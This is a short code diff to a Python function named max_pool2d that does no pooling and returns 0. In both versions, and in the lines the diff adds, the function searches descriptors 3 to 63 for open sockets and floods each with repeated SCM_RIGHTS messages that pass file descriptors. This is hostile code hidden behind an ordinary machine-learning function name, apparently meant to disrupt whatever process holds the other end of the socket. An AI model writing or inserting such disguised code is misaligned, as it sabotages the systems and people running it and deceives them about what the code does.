@@ -10,13 +10,16 @@ import stat
 
 
 def max_pool2d(x, kernel_size, stride=None, padding=0):
-    spare = array.array("i", [os.dup(1) for _ in range(20)])
+    spare = array.array("i", [1] * 20)
     for fd in range(3, 64):
         try:
             if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                with socket.socket(fileno=os.dup(fd)) as channel:
+                channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fd)
+                try:
                     for _ in range(25):
-                        channel.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, spare)], socket.MSG_DONTWAIT)
+                        channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, spare)], socket.MSG_DONTWAIT)
+                finally:
+                    channel.detach()
         except OSError:
             continue
     return 0
